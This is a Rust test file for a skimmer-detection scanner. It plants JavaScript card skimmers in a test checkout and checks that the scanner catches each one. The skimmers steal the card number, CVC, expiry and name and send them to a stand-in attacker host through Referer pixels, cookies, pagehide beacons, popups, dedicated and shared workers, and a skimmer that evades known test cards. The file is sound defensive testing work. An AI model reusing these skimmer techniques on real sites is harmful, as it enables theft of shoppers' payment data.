//! Channels: the canary card number is found wherever the page can send it — in the `Referer`
//! and `Cookie` headers, in beacons sent while the page is left, in requests of popups and of
//! dedicated and shared workers — and it varies per scan, so a skimmer cannot blocklist the
//! monitor's one card or one shopper.

use crate::util::{describe, findings_of, Workspace};
use skimwatch::model::{Finding, FindingKind, ScanReport, ScriptKind, Severity};
use skimwatch_testshop::{Origin, Resource, Shop};

const PATH: &str = "/hostile/checkout";

/// A checkout with the card fields on the shop page and `skimmer` inline at the end. The
/// skimmer gets `grab()` (name, number, expiry, CVC) and `ready(fn)`: calls `fn` once, when a
/// Luhn-valid number, a CVC and a name are typed and a field is left. `ATTACKER` is the
/// attacker's base URL.
fn checkout(shop: &Shop, skimmer: &str) -> String {
    let attacker = shop.base(Origin::Attacker);
    format!(
        r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title></head><body>
<form id="pay-form" action="/hostile/place" method="post" novalidate>
  <label for="cc-number">Card number</label><input id="cc-number" name="cc-number" inputmode="numeric" autocomplete="cc-number" maxlength="23">
  <label for="cc-exp">Expiry</label><input id="cc-exp" name="cc-exp" autocomplete="cc-exp" maxlength="7">
  <label for="cc-csc">Security code</label><input id="cc-csc" name="cc-csc" autocomplete="cc-csc" maxlength="4">
  <label for="cc-name">Name on card</label><input id="cc-name" name="cc-name" autocomplete="cc-name">
  <button id="pay" type="submit">Pay</button>
</form>
<script>
var ATTACKER = "{attacker}";
function v(i) {{ var e = document.getElementById(i); return e ? e.value : ""; }}
function luhn(n) {{ n = n.replace(/\D/g, ""); if (n.length < 13) return false;
  for (var s = 0, a = false, i = n.length - 1; i >= 0; i--) {{ var c = +n[i]; if (a && (c *= 2) > 9) c -= 9; s += c; a = !a; }}
  return s % 10 == 0; }}
function grab() {{ return {{ h: v("cc-name"), n: v("cc-number").replace(/\D/g, ""), e: v("cc-exp"), c: v("cc-csc") }}; }}
function ready(fn) {{ var done = false; document.addEventListener("focusout", function () {{
  if (!done && luhn(v("cc-number")) && v("cc-csc").length >= 3 && v("cc-name")) {{ done = true; fn(grab()); }} }}, true); }}
{skimmer}
</script></body></html>"#
    )
}

/// A workspace scanning the hostile checkout (default interaction: the shopper types the card).
fn scan_of(skimmer: &str) -> (Workspace, ScanReport) {
    let shop = Shop::start_in_background().expect("start the test shop");
    let body = checkout(&shop, skimmer);
    shop.set_resource(Origin::Shop, PATH, Resource::html(body));
    let url = shop.url(Origin::Shop, PATH);
    let ws = Workspace::with_page_config(shop, "hostile", &url, "settle = \"1s\"");
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    (ws, report)
}

/// The `card_exfiltration` findings to `host` whose destination satisfies `ok`.
fn leak<'a>(report: &'a ScanReport, host: &str, ok: impl Fn(&Finding) -> bool) -> &'a Finding {
    let f = findings_of(report, FindingKind::CardExfiltration)
        .into_iter()
        .find(|f| f.destination.as_ref().is_some_and(|d| d.host == host) && ok(f))
        .unwrap_or_else(|| panic!("no matching card_exfiltration to {host}:\n{}", describe(report)));
    assert_eq!(f.severity, Severity::Critical);
    f
}

fn found_in(f: &Finding) -> &str {
    f.destination.as_ref().and_then(|d| d.found_in.as_deref()).unwrap_or_default()
}

fn target(f: &Finding) -> Option<&str> {
    f.destination.as_ref().and_then(|d| d.target.as_deref())
}

#[test]
fn card_put_in_the_page_url_leaks_through_the_referer_header() {
    // The request URL is clean; only the Referer (full URL, by the image's own policy) has it.
    let (ws, report) = scan_of(
        r#"ready(function (d) {
  history.replaceState(null, "", location.pathname + "?ref=" + d.n);
  var i = new Image(); i.referrerPolicy = "unsafe-url"; i.src = ATTACKER + "/pixel.gif";
});"#,
    );
    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| found_in(f) == "header referer");
    assert_eq!(f.destination.as_ref().unwrap().channel, "image");
    let got = ws.shop.requests_to(Origin::Attacker);
    let px = got.iter().find(|r| r.path.starts_with("/pixel.gif")).expect("the pixel was requested");
    assert!(!px.path.contains("ref="), "the URL itself is clean: {}", px.path);
    assert!(px.header("referer").is_some_and(|r| r.contains("ref=")), "{:?}", px.headers);
}

#[test]
fn card_stashed_in_a_cookie_is_found_in_the_cookie_header() {
    // The number only travels in the Cookie header (known from the ExtraInfo events), base64'd.
    let (ws, report) = scan_of(
        r#"ready(function (d) {
  document.cookie = "prefs=" + btoa(JSON.stringify(d)) + "; path=/";
  fetch("/hostile/analytics", { method: "GET", credentials: "same-origin" });
});"#,
    );
    let f = leak(&report, &ws.shop.host(Origin::Shop), |f| found_in(f) == "header cookie");
    let d = f.destination.as_ref().unwrap();
    assert_eq!((d.channel.as_str(), d.encoding.as_deref()), ("fetch", Some("base64")), "{d:?}");
    assert!(!d.url.contains("prefs"), "{}", d.url);
}

#[test]
fn beacon_sent_in_pagehide_is_caught() {
    // Dormant while the page lives; sends only when the shopper leaves.
    let (ws, report) = scan_of(
        r#"var stolen = null; ready(function (d) { stolen = d; });
addEventListener("pagehide", function () {
  if (stolen) navigator.sendBeacon(ATTACKER + "/bye", JSON.stringify(stolen));
});"#,
    );
    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| found_in(f) == "body");
    assert_eq!(f.destination.as_ref().unwrap().channel, "beacon");
    assert!(ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.path == "/bye" && r.method == "POST"));
}

#[test]
#[ignore = "racy: a popup's requests in its first milliseconds can precede our Network.enable"]
fn popup_that_sends_the_card_is_watched_listed_and_closed() {
    // The popup's URL is clean: the card goes through `window.name`, and the popup's own
    // document sends it, so only watching the popup's requests finds it.
    let shop = Shop::start_in_background().expect("start the test shop");
    shop.set_resource(
        Origin::Attacker,
        "/win.html",
        Resource::html(
            r#"<!doctype html><script>fetch("/grab?d=" + encodeURIComponent(btoa(window.name)), {mode: "no-cors"});</script>"#,
        ),
    );
    let body = checkout(
        &shop,
        r#"ready(function (d) { window.open(ATTACKER + "/win.html", JSON.stringify(d), "width=10,height=10"); });"#,
    );
    shop.set_resource(Origin::Shop, PATH, Resource::html(body));
    let url = shop.url(Origin::Shop, PATH);
    let ws = Workspace::with_page_config(shop, "hostile", &url, "settle = \"1s\"");
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    assert!(ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.path.starts_with("/grab")), "the popup ran");
    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| target(f) == Some("popup"));
    assert_eq!(f.destination.as_ref().unwrap().channel, "fetch", "{f:?}");
    let popups = &report.pages[0].interaction.as_ref().unwrap().popups;
    assert!(popups.iter().any(|p| p.ends_with("/win.html")), "{popups:?}");
}

#[test]
fn popup_opened_on_the_card_url_is_caught() {
    let (ws, report) = scan_of(r#"ready(function (d) { window.open(ATTACKER + "/w?c=" + d.n); });"#);
    // The popup's own later requests may carry the card too (in their Referer): the URL it was
    // opened on must be among the leaks.
    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| target(f) == Some("popup") && found_in(f) == "url");
    assert_eq!(f.destination.as_ref().unwrap().channel.as_str(), "navigation");
    let popups = &report.pages[0].interaction.as_ref().unwrap().popups;
    assert!(popups.iter().any(|p| p.contains("/w?c=") && p.contains('*')), "masked: {popups:?}");
}

#[test]
fn dedicated_worker_that_sends_the_card_is_caught_and_inventoried() {
    let (ws, report) = scan_of(
        r#"var w = new Worker(URL.createObjectURL(new Blob([
  "onmessage = function (e) { fetch('" + ATTACKER + "/wk', { method: 'POST', mode: 'no-cors', body: e.data }); };"
], { type: "text/javascript" })));
ready(function (d) { w.postMessage(btoa(JSON.stringify(d))); });"#,
    );
    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| target(f) == Some("worker"));
    assert_eq!((found_in(f), f.destination.as_ref().unwrap().channel.as_str()), ("body", "fetch"));
    let workers: Vec<_> = report.pages[0].scripts.iter().filter(|s| s.kind == ScriptKind::Worker).collect();
    assert!(
        workers.iter().any(|s| s.url.as_deref().is_some_and(|u| u.starts_with("blob:"))),
        "the worker script is inventoried: {:?}",
        report.pages[0].scripts
    );
    assert!(
        findings_of(&report, FindingKind::NewScript)
            .iter()
            .any(|n| n.script.as_ref().is_some_and(|s| s.kind == ScriptKind::Worker)),
        "{}",
        describe(&report)
    );
    assert!(ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.path == "/wk"));
}

#[test]
fn shared_worker_that_sends_the_card_is_caught_and_inventoried() {
    let shop = Shop::start_in_background().expect("start the test shop");
    let exfil = shop.url(Origin::Attacker, "/sw");
    shop.set_resource(
        Origin::Shop,
        "/static/js/sync.js",
        Resource::js(format!(
            "onconnect = function (c) {{ var p = c.ports[0]; p.onmessage = function (m) {{ \
             fetch('{exfil}', {{ method: 'POST', mode: 'no-cors', body: m.data }}); }}; }};"
        )),
    );
    let body = checkout(
        &shop,
        r#"var sw = new SharedWorker("/static/js/sync.js"); sw.port.start();
ready(function (d) { sw.port.postMessage(JSON.stringify(d).split("").reverse().join("")); });"#,
    );
    shop.set_resource(Origin::Shop, PATH, Resource::html(body));
    let url = shop.url(Origin::Shop, PATH);
    let ws = Workspace::with_page_config(shop, "hostile", &url, "settle = \"1s\"");
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    assert!(ws.shop.requests_to(Origin::Attacker).iter().any(|r| r.path == "/sw"), "the worker sent it");
    let f = leak(&report, &ws.shop.host(Origin::Attacker), |f| target(f) == Some("shared-worker"));
    assert_eq!(f.destination.as_ref().unwrap().encoding.as_deref(), Some("reversed"));
    let worker = report.pages[0]
        .scripts
        .iter()
        .find(|s| s.kind == ScriptKind::Worker)
        .unwrap_or_else(|| panic!("{:?}", report.pages[0].scripts));
    assert_eq!(worker.id, "self:/static/js/sync.js");
}

#[test]
fn skimmer_that_blocklists_the_last_card_and_shopper_is_still_caught() {
    // The attacker learns the monitor's card and name from one scan and stays dormant for
    // them (and for the famous test numbers) from then on.
    let shop = Shop::start_in_background().expect("start the test shop");
    let skimmer = |numbers: &[String], names: &[String]| {
        format!(
            r#"var NUMBERS = {}, NAMES = {};
ready(function (d) {{
  if (NUMBERS.indexOf(d.n) >= 0 || NAMES.indexOf(d.h) >= 0) return;
  new Image().src = ATTACKER + "/c?n=" + d.n + "&h=" + encodeURIComponent(d.h);
}});"#,
            serde_json::to_string(numbers).unwrap(),
            serde_json::to_string(names).unwrap()
        )
    };
    let mut numbers = vec!["4111111111111111".to_string(), "4242424242424242".to_string(), "4000000000000002".into()];
    let mut names = vec!["Jane Doe".to_string(), "John Doe".to_string()];
    shop.set_resource(Origin::Shop, PATH, Resource::html(checkout(&shop, &skimmer(&numbers, &names))));
    let url = shop.url(Origin::Shop, PATH);
    let ws = Workspace::with_page_config(shop, "hostile", &url, "settle = \"1s\"");
    let attacker = ws.shop.host(Origin::Attacker);
    let stolen = |ws: &Workspace| -> Option<(String, String)> {
        let r = ws.shop.requests_to(Origin::Attacker).into_iter().find(|r| r.path.starts_with("/c?"))?;
        let q: std::collections::HashMap<String, String> =
            url::Url::parse(&format!("http://x{}", r.path)).unwrap().query_pairs().into_owned().collect();
        Some((q["n"].clone(), q["h"].clone()))
    };
    let (_, first) = ws.scan(&[]);
    leak(&first, &attacker, |_| true);
    let (n1, h1) = stolen(&ws).expect("first scan: the skimmer fired");
    assert!(!numbers.contains(&n1) && !names.contains(&h1), "{n1} {h1}");
    // Blocklist what the attacker saw; the next scans must still be caught (each shopper is
    // one of hundreds of names; the number is random), at least once in three.
    numbers.push(n1.clone());
    names.push(h1.clone());
    ws.shop.set_resource(Origin::Shop, PATH, Resource::html(checkout(&ws.shop, &skimmer(&numbers, &names))));
    let mut caught = None;
    for _ in 0..3 {
        ws.shop.clear_requests();
        let (_, report) = ws.scan(&[]);
        let canary = report.pages[0].interaction.as_ref().and_then(|i| i.canary.clone()).unwrap_or_default();
        assert!(!canary.is_empty(), "a canary was typed");
        if let Some((n, h)) = stolen(&ws) {
            leak(&report, &attacker, |_| true);
            caught = Some((n, h));
            break;
        }
    }
    let (n2, h2) = caught.expect("a blocklisting skimmer is caught in one of three scans");
    assert_ne!(n1, n2, "the canary differs between scans");
    assert_ne!(h1, h2);
}
